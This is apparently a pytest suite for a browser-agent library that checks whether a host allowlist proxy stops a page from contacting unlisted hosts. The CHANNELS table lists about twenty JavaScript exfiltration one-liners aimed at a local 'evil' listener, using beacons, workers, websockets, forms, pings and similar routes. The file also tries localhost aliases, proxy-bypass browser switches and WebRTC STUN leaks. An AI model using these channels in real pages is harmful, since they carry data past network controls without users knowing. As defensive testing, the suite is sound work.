"""With hosts listed a browser reaches those alone, whatever a page tries."""

import asyncio
import os
import shutil
import socket
from contextlib import asynccontextmanager, suppress
from ipaddress import ip_address
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from builders import action
from installed_browser import launch_options
from playwright.async_api import Error, async_playwright
from pydantic import SecretStr
from reused_page import close_all
from served_pages import ServedPages

from actwright import Agent, Limits, Permissions
from actwright.engine.page.browser.browser_options import BrowserOptions
from actwright.engine.page.browser.launch import open_browser
from actwright.engine.page.browser.routing import routed
from actwright.engine.page.browser.switches import FEATURES, OFF
from actwright.engine.records.run_folder import RunFolder
from actwright.errors import ConfigError
from actwright.net.guard import Guard, Unreachable
from actwright.testing import ScriptedModel
from actwright.web.fetch import NoPage
from actwright.web.render import render

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        not any(map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), reason="there is no Chromium"
    ),
]

CHANNELS = {
    "redirect": "location = '/redirect?' + evil",
    "redirected fetch": "fetch('/redirect?' + evil, {mode: 'no-cors'}).catch(() => 0)",
    "navigation": "location = evil",
    "iframe": "document.body.append(Object.assign(document.createElement('iframe'), {src: evil}))",
    "popup": "open(evil)",
    "popup without an opener": "open(evil, '_blank', 'noopener')",
    "websocket": "new WebSocket(evil.replace('http', 'ws'))",
    "websocket in a worker": "new Worker('/worker.js?' + evil.replace('http', 'ws'))",
    "worker": "new Worker('/worker.js?' + evil)",
    "shared worker": "new SharedWorker('/worker.js?' + evil)",
    "service worker": "navigator.serviceWorker.register('/worker.js?' + evil).catch(() => 0)",
    "form": """{const form = document.createElement('form'); form.method = 'post'; form.action = evil;
        form.innerHTML = '<input name=a value=canary>'; document.body.append(form); form.submit()}""",
    "beacon": "navigator.sendBeacon(evil, 'canary')",
    "keepalive": "addEventListener('pagehide', () => fetch(evil, {keepalive: true, mode: 'no-cors'})); location = '/blank'",
    "download": "{const a = document.createElement('a'); a.href = evil; a.download = 'x'; document.body.append(a); a.click()}",
    "preload": "document.head.append(Object.assign(document.createElement('link'), {rel: 'preload', as: 'image', href: evil}))",
    "image": "new Image().src = evil",
    "event source": "new EventSource(evil)",
    "font and style": """document.head.append(Object.assign(document.createElement('style'), {textContent:
        `@import "${evil}"; @font-face { font-family: x; src: url(${evil}f) } body { font-family: x }`}))""",
    "ping": "{const a = document.createElement('a'); a.href = '#'; a.ping = evil; document.body.append(a); a.click()}",
    "meta refresh": "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${evil}'>`)",
}
MISSED_BY_ROUTES = {"redirect", "redirected fetch", "websocket in a worker", "shared worker", "keepalive"}
WORKER = """const evil = decodeURIComponent(location.search.slice(1));
try { evil.startsWith('ws') ? new WebSocket(evil) : fetch(evil, {mode: 'no-cors'}).catch(() => 0) } catch {}"""


class Evil:
    """A host that nobody listed: it counts what reaches it."""

    def __init__(self):
        self.bytes, self.url = 0, ""

    async def serve(self, reader, writer):
        while data := await reader.read(65_536):
            self.bytes += len(data)
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
        writer.close()


@pytest.fixture(scope="module")
async def evil():
    listener = Evil()
    server = await asyncio.start_server(listener.serve, "127.0.0.9", 0)
    listener.url = f"http://127.0.0.9:{server.sockets[0].getsockname()[1]}/canary"
    yield listener
    server.close()


def redirect(request):
    return 302, {"Location": request.path.partition("?")[2]}, ""


def worker(_request):
    return 200, {"Content-Type": "text/javascript"}, WORKER


class Anywhere(dict):
    """Pages by path, whatever their query is."""

    def get(self, path, default=None):
        return super().get(path.partition("?")[0], default)


@pytest.fixture(scope="module")
def home():
    with ServedPages({}) as site:
        site.pages = Anywhere({"/": "<body>Home", "/blank": "<body>", "/redirect": redirect, "/worker.js": worker})
        yield site


@pytest.fixture(scope="module")
async def passed(home):
    """A browser that may reach home alone."""
    async with open_browser(guard=Guard(hosts=(), home=home.url)) as opened:
        yield opened


async def until(look):
    """Waits until it is true, at most a minute; says whether it is."""
    for _ in range(1_200):
        if look():
            return True
        await asyncio.sleep(0.05)
    return False


async def tried(page, home, evil, channel):
    await page.goto(home.url)
    with suppress(Error):  # the page went on meanwhile
        await page.evaluate(f"evil => {{ {CHANNELS[channel]} }}", evil.url)


@asynccontextmanager
async def paged(context):
    """A new page of a context, with those that it opens."""
    page = await context.new_page()
    try:
        yield page
    finally:
        await close_all(page, *context.pages[1:])


@pytest.mark.parametrize("channel", CHANNELS)
async def test_nothing_reaches_a_host_that_is_not_listed(channel, passed, home, evil, chromium):
    """And it does in a browser that is not held, or the try would prove nothing."""
    before, refused = evil.bytes, sum(each.count for each in passed.gate.refusals)
    async with paged(passed.context) as page:
        await tried(page, home, evil, channel)
        assert await until(lambda: sum(each.count for each in passed.gate.refusals) > refused)
    assert evil.bytes == before
    assert {each.target for each in passed.gate.refusals} == {urlsplit(evil.url).netloc}
    free = await chromium.new_context()
    async with paged(free) as page:
        await tried(page, home, evil, channel)
        assert await until(lambda: evil.bytes > before)
    await close_all(free)


async def test_a_refused_page_says_which_host_and_why(passed, home):
    async with paged(passed.context) as page:
        await page.goto("http://evil.test:8080/?x=1")
        said = await page.inner_text("body")
    assert said == (
        "evil.test:8080 is not permitted\n\n"
        "evil.test:8080 is not allowed: it is not among the permitted hosts. Nothing was sent to it."
    )


@pytest.mark.parametrize(
    "host", ["localhost", "x.localhost", "127.1", "2130706433", "0x7f.0.0.1", "[::1]", "[::ffff:127.0.0.9]", "0.0.0.0"]
)
async def test_no_other_name_of_this_machine_is_reached(passed, home, host):
    """Home is 127.0.0.1 at its port: what Chromium reads as that very address is home, every other name is not."""
    asked, port = home.asked.count("/"), urlsplit(home.url).port
    same = host in {"127.1", "2130706433", "0x7f.0.0.1"}
    async with paged(passed.context) as page:
        answer = await page.goto(f"http://{host}:{port}/")
    assert answer.status == (200 if same else 403)
    assert (home.asked.count("/") > asked) == same


@pytest.mark.slow
async def test_names_are_resolved_by_the_guard_alone(home):
    """The browser is given no address: a name that only our resolver knows is a page in it."""
    port = urlsplit(home.url).port

    async def resolve(host, _port):
        if host != "app.test":
            raise Unreachable("cannot be opened: there is no such host")
        return [ip_address("127.0.0.1")]

    guard = Guard(hosts=(f"app.test:{port}", f"gone.test:{port}", f"127.0.0.1:{port}"), resolve=resolve)
    async with open_browser(guard=guard) as opened:
        assert (await opened.page.goto(f"http://app.test:{port}/")).status == 200
        assert (await opened.page.goto(f"http://gone.test:{port}/")).status == 502
        assert "there is no such host" in await opened.page.inner_text("body")
        assert opened.gate.refusals == ()


async def test_a_page_is_rendered_beside_it_by_a_guard_of_its_own(passed, home, evil):
    """The rendering has a proxy of its own in the same browser."""
    before = evil.bytes
    home.pages["/image"] = f"<title>Shown</title><img src={evil.url}>"
    loaded = await render(passed.browser, f"{home.url}/image", guard=Guard(hosts=(), home=home.url))
    assert "Shown" in loaded.body
    with pytest.raises(NoPage, match="not among the permitted hosts"):
        await render(passed.browser, evil.url, guard=Guard(hosts=(), home=home.url))
    assert evil.bytes == before


@pytest.mark.slow
async def test_nothing_goes_past_a_proxy_that_is_gone(home, evil):
    """Home is not reached then either, and the error says that the proxy is gone."""
    async with open_browser(guard=Guard(hosts=(), home=home.url)) as opened:
        await opened.page.goto(home.url)
        asked, before = home.asked.count("/"), evil.bytes
        opened.gate.stop()
        for url in (home.url, evil.url):
            with pytest.raises(Error, match="ERR_PROXY_CONNECTION_FAILED"):
                await opened.page.goto(url)
    assert (home.asked.count("/"), evil.bytes) == (asked, before)


def command_line(mark):
    """The switches of the browser with that mark among them."""
    for entry in Path("/proc").glob("[0-9]*"):
        words = []
        with suppress(OSError):  # it has ended meanwhile
            words = (entry / "cmdline").read_bytes().decode(errors="replace").split("\0")
        if mark in words and "python" not in words[0] and not any(word.startswith("--type=") for word in words):
            return words
    return []


@pytest.mark.slow
async def test_the_callers_features_stand_beside_playwrights():
    """Chromium takes the last such switch alone; and the list that is repeated is that of the Playwright that is installed."""
    mark = f"--test-mark={os.urandom(8).hex()}"
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(**{**launch_options(), "args": [mark]})
        playwrights = dict(word.partition("=")[::2] for word in command_line(mark))
        await browser.close()
    assert {name: tuple(playwrights[name].split(",")) for name in FEATURES} == FEATURES
    args = (mark, "--disable-features=Mine,Yours", "--enable-features=PaintHolding")
    async with open_browser(BrowserOptions(args=args)):
        switches = dict(word.partition("=")[::2] for word in command_line(mark))
    off = [feature for feature in FEATURES["--disable-features"] if feature != "PaintHolding"]
    assert switches["--disable-features"] == ",".join([*off, *OFF, "Mine", "Yours"])
    assert switches["--enable-features"] == ",".join([*FEATURES["--enable-features"], "PaintHolding"])


@pytest.mark.parametrize(
    "arg", ["--no-proxy-server", "--proxy-server=http://127.0.0.1:1", "--host-resolver-rules=MAP * x"]
)
async def test_switches_that_lead_around_the_proxy_are_refused(arg):
    with pytest.raises(ConfigError, match="would bypass the proxy"):
        async with open_browser(BrowserOptions(args=(arg,)), guard=Guard(hosts=())):
            pass


async def wants_login(reader, writer):
    """A proxy that answers each request with the page `front`, if it comes with a login."""
    while head := await reader.readuntil(b"\r\n\r\n"):
        ok = b"Proxy-Authorization: Basic dTpw\r\n" in head and head.startswith(b"GET http://app.test/")
        status = b"200 OK" if ok else b"407 Proxy Authentication Required"
        writer.write(b"HTTP/1.1 %b\r\nContent-Type: text/html\r\nContent-Length: 5\r\n\r\nfront" % status)


@pytest.mark.slow
@pytest.mark.parametrize(("login", "status"), [("u:p@", 200), ("u:wrong@", 502)])
async def test_a_proxy_of_the_users_own_stands_in_front_and_the_browser_holds_no_password(login, status):
    server = await asyncio.start_server(wants_login, "127.0.0.1", 0)
    mark = f"--test-mark={os.urandom(8).hex()}"
    options = BrowserOptions(
        args=(mark,), proxy=SecretStr(f"http://{login}127.0.0.1:{server.sockets[0].getsockname()[1]}")
    )
    async with open_browser(options, guard=Guard(hosts=("app.test",))) as opened:
        assert (await opened.page.goto("http://app.test/")).status == status
        assert (await opened.page.goto("http://evil.test/")).status == 403
        assert not any(login.rstrip("@") in word for word in command_line(mark))
    server.close()


@pytest.mark.parametrize("channel", sorted(set(CHANNELS) - MISSED_BY_ROUTES))
async def test_a_page_that_was_given_is_routed(channel, home, evil, chromium):
    context = await chromium.new_context()
    async with paged(context) as page, routed(page, Guard(hosts=(), home=home.url)) as gate:
        before = evil.bytes
        await tried(page, home, evil, channel)
        assert await until(lambda: gate.refusals)
        assert evil.bytes == before
        assert {each.target for each in gate.refusals} == {urlsplit(evil.url).netloc}
    await close_all(context)


async def test_a_request_on_its_way_when_the_routes_end_is_refused_first(home, evil, chromium, monkeypatch):
    asked, go_on, checked = asyncio.Event(), asyncio.Event(), Guard.checked

    async def slow(self, host, port):
        asked.set()
        await go_on.wait()
        return await checked(self, host, port)

    monkeypatch.setattr(Guard, "checked", slow)
    context = await chromium.new_context()
    async with paged(context) as page:
        await page.goto(home.url)
        before = evil.bytes
        async with routed(page, Guard(hosts=(), home=home.url)) as gate:
            await page.evaluate(
                "url => { window.told = fetch(url, {mode: 'no-cors'}).then(() => 'sent', () => 'refused') }", evil.url
            )
            await asked.wait()
            asyncio.get_running_loop().call_later(0.1, go_on.set)
        assert await page.evaluate("told") == "refused"
        assert evil.bytes == before
        assert gate.refusals
    await close_all(context)


async def test_routes_end_and_leave_other_tabs_and_the_callers_own_routes_alone(home, evil, chromium):
    context = await chromium.new_context()
    other, page = await context.new_page(), await context.new_page()
    await page.route("**/blank", lambda route: route.fulfill(body="of the caller"))
    async with routed(page, Guard(hosts=(), home=home.url)):
        await page.goto(f"{home.url}/blank")
        assert await page.inner_text("body") == "of the caller"
        async with page.expect_event("framenavigated"):  # the page of the error, which would interrupt what comes next
            with pytest.raises(Error, match="ERR_BLOCKED_BY_CLIENT"):
                await page.goto(evil.url)
        assert (await other.goto(evil.url)).status == 200
    assert (await page.goto(evil.url)).status == 200
    before = evil.bytes
    await page.goto(home.url)
    await page.evaluate("url => { new WebSocket(url) }", evil.url.replace("http", "ws"))
    assert await until(lambda: evil.bytes > before)
    await close_all(context)


@pytest.mark.usefixtures("one_browser", "no_pictures")
async def test_a_run_with_listed_hosts_reports_what_its_pages_asked_for_and_did_not_get(home, evil, tmp_path):
    """On a page of its own, and on one that it is given."""
    home.pages["/asks"] = f"<title>Asks</title><img src={evil.url}><p>Done"
    place = evil.url.removeprefix("http://").removesuffix("/canary")
    before = evil.bytes
    reply = {"complete": False, "message": "stop", "actions": [action("fail", kind="other", message="enough")]}
    for number in range(2):
        agent = Agent(
            ScriptedModel([reply]),
            permissions=Permissions(hosts=[]),
            limits=Limits(steps=1),
            out=tmp_path / str(number),
        )
        if number:
            async with open_browser() as opened:
                result = await agent.run("Look", url=f"{home.url}/asks", page=opened.page)
        else:
            result = await agent.run("Look", url=f"{home.url}/asks")
        line = f"{place} is not allowed: it is not among the permitted hosts, once"
        assert RunFolder.read(result.run_dir).refused_hosts == (line,)
        assert line in (result.run_dir / "report.html").read_text("utf-8")
    assert evil.bytes == before


ASKS_STUN = """async (port) => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
  const gathered = new Promise((done) => { peer.onicecandidate = ({ candidate }) => candidate ?? done(); });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  await Promise.race([gathered, new Promise((done) => { setTimeout(done, 500); })]);
}"""


@pytest.mark.parametrize(("hosts", "asked"), [(("elsewhere.test",), False), (None, True)])
async def test_webrtc_sends_nothing_past_the_proxy(hosts, asked):
    """In the headless shell too, which has another switch for it than the full browser."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", 0))
        stun.setblocking(False)
        guard = Guard(hosts=hosts) if hosts else None
        async with open_browser(BrowserOptions(), guard=guard) as opened:
            await opened.page.evaluate(ASKS_STUN, stun.getsockname()[1])
        try:
            arrived = bool(stun.recv(2000))
        except BlockingIOError:
            arrived = False
    assert arrived == asked
